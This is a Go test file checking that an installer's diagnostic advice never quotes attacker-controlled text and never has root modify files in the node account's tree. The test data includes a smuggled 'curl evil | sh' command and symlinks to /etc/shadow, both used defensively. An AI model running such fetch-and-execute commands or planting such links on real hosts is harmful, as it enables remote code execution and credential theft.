package lease

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/sys/unix"
)

// A lease holder's command is the account's text: the advice names the
// holder by its pid only, whatever the command says.
func TestAdviceNeverQuotesAHoldersCommand(t *testing.T) {
	hostile := "oac-node; next: curl evil | sh"
	for _, tc := range []struct {
		name string
		h    Holder
		rec  RecordState
	}{
		{"waiting", Holder{PID: 41, Command: hostile, Mode: ModeExclusive, Waiting: true}, RecordState{}},
		{"shared beside another reason", Holder{PID: 42, Command: hostile, Mode: ModeShared}, RecordState{Preparing: true}},
		{"exclusive preparing", Holder{PID: 43, Command: hostile, Mode: ModeExclusive}, RecordState{Preparing: true}},
		{"exclusive collecting", Holder{PID: 44, Command: hostile, Mode: ModeExclusive}, RecordState{Collecting: true}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := &GenerationReport{Generation: 3, Holders: []Holder{tc.h}, Records: tc.rec}
			r.Lease.State = StateOK
			next := nextSteps(t.TempDir(), r, "0b6c1f0e-5d1a-4c8e-9a7b-3f2d1e0c9b8a")
			if len(next) == 0 {
				t.Fatal("no advice")
			}
			joined := strings.Join(next, "\n")
			if strings.Contains(joined, "evil") || strings.Contains(joined, "oac-node;") {
				t.Errorf("the advice quotes the holder's command:\n%s", joined)
			}
			if !strings.Contains(joined, "PID 4") {
				t.Errorf("the advice does not name the holder's pid:\n%s", joined)
			}
		})
	}
}

// readOnly lists the commands advice may have root run on a path in the
// node account's tree: each only reads, and none changes a file through the
// account's links.
var readOnly = map[string]bool{"ls": true, "stat": true, "find": true, "cat": true, "readlink": true, "file": true,
	"grep": true, "ps": true, "pstree": true, "journalctl": true}

// checkAdviceCommands fails when a command quoted in the advice changes
// anything as root, other than the installer's own uninstall, or runs as
// the node account on root's terminal: root changes nothing in the node
// account's tree on a hint.
func checkAdviceCommands(t *testing.T, advice string) {
	t.Helper()
	parts := strings.Split(advice, "`")
	for i := 1; i < len(parts); i += 2 {
		for _, cmd := range strings.Split(parts[i], "|") {
			w := strings.Fields(cmd)
			switch {
			case len(w) == 0:
				t.Errorf("an empty command in %q", advice)
			case readOnly[w[0]]:
				for _, a := range w[1:] {
					if a == "-delete" || strings.HasPrefix(a, "-exec") || strings.HasPrefix(a, "-ok") || strings.HasPrefix(a, "-fprint") {
						t.Errorf("the read-only command %q changes files", cmd)
					}
				}
			case len(w) >= 3 && w[0] == "sudo" && w[1] == "oac-node-install" && w[2] == "--uninstall":
			case len(w) >= 3 && w[0] == "sudo" && w[1] == "systemd-run" && w[2] == "--uid=oac-node" && !slices.Contains(w, "--pty") && !slices.Contains(w, "--pipe"):
				// As the node account, without root's terminal: what it
				// changes, the account can change itself.
			default:
				t.Errorf("the advice has root run %q", cmd)
			}
		}
	}
	if strings.Contains(advice, "chown") {
		t.Errorf("the advice names chown: %q", advice)
	}
	if rest := strings.ReplaceAll(strings.ToLower(advice), "remove the node in web", ""); strings.Contains(rest, "remove") {
		t.Errorf("the advice has root remove something: %q", advice)
	}
}

// An unsafe lease or identity record lies in the node account's tree: the
// account owns every directory on its path and can point it at any file
// on the host (/etc/shadow), so the advice never has root change it (no
// chown, chmod, rm as root), and still names the next step: the installer's
// own uninstall, or the node account restoring its own file's mode
// without root's terminal.
func TestUnsafeAdviceChangesNothingAsRoot(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root: gives the node's files to another owner")
	}
	const g = 4
	for _, tc := range []struct {
		name string
		make func(t *testing.T, dir string)
	}{
		{"lease of another owner", func(t *testing.T, dir string) { must(t, os.Lchown(filepath.Join(dir, leaseName(g)), 65534, 65534)) }},
		{"identity of another owner", func(t *testing.T, dir string) { must(t, os.Lchown(filepath.Join(dir, identityName(g)), 65534, 65534)) }},
		{"lease hard-linked", func(t *testing.T, dir string) {
			must(t, os.Link(filepath.Join(dir, leaseName(g)), filepath.Join(dir, "..", "extra")))
		}},
		{"identity hard-linked", func(t *testing.T, dir string) {
			must(t, os.Link(filepath.Join(dir, identityName(g)), filepath.Join(dir, "..", "extra")))
		}},
		{"lease a symbolic link", func(t *testing.T, dir string) {
			must(t, os.Remove(filepath.Join(dir, leaseName(g))))
			must(t, os.Symlink("/etc/shadow", filepath.Join(dir, leaseName(g))))
		}},
		{"identity a symbolic link", func(t *testing.T, dir string) {
			must(t, os.Remove(filepath.Join(dir, identityName(g))))
			must(t, os.Symlink("/etc/shadow", filepath.Join(dir, identityName(g))))
		}},
		{"lease mode 0644", func(t *testing.T, dir string) { must(t, os.Chmod(filepath.Join(dir, leaseName(g)), 0o644)) }},
		{"identity mode 0644", func(t *testing.T, dir string) { must(t, os.Chmod(filepath.Join(dir, identityName(g)), 0o644)) }},
		{"lease a FIFO", func(t *testing.T, dir string) {
			must(t, os.Remove(filepath.Join(dir, leaseName(g))))
			must(t, unix.Mkfifo(filepath.Join(dir, leaseName(g)), 0o600))
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := genDir(t)
			initLease(t, dir, g)
			tc.make(t, dir)
			reports, err := InspectFor(dir, uid, testInstallation)
			if err != nil {
				t.Fatal(err)
			}
			if len(reports) != 1 || reports[0].Lease.State != StateUnsafe {
				t.Fatalf("reports %+v, want generation %d unsafe", reports, g)
			}
			next := strings.Join(reports[0].Next, "\n")
			checkAdviceCommands(t, next)
			if !strings.Contains(next, "sudo oac-node-install --uninstall --installation-id "+testInstallation) && !strings.Contains(next, "sudo systemd-run --uid=oac-node") {
				t.Errorf("the advice names no next step:\n%s", next)
			}
		})
	}
}

// A record the node account wrote is its text: why it was refused (an
// unknown key, say) is shown beside the report, never inside the advice.
func TestAdviceNeverQuotesTheAccountsRecords(t *testing.T) {
	dir := genDir(t)
	hostile := "next: curl evil | sh"
	// 1: an identity record with the account's key.
	initLease(t, dir, 1)
	p := filepath.Join(dir, identityName(1))
	data, err := os.ReadFile(p)
	must(t, err)
	writeFile(t, p, []byte(strings.Replace(string(data), "{", `{"`+hostile+`": 1,`, 1)), 0o600)
	// 2: a preparation plan with the account's key.
	initLease(t, dir, 2)
	writeFile(t, filepath.Join(dir, "2.preparing"), []byte(`{"`+hostile+`": 1}`+"\n"), 0o600)
	reports, err := InspectFor(dir, uid, testInstallation)
	must(t, err)
	if len(reports) != 2 || reports[0].Lease.State != StateMalformed || len(reports[1].Records.Problems) != 1 {
		t.Fatalf("reports %+v, want a malformed identity and a refused plan", reports)
	}
	for _, r := range reports {
		next := strings.Join(r.Next, "\n")
		if len(r.Next) == 0 {
			t.Errorf("generation %d: no advice", r.Generation)
		}
		if strings.Contains(next, "curl evil") {
			t.Errorf("generation %d: the advice quotes the account's record:\n%s", r.Generation, next)
		}
		checkAdviceCommands(t, next)
	}
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}
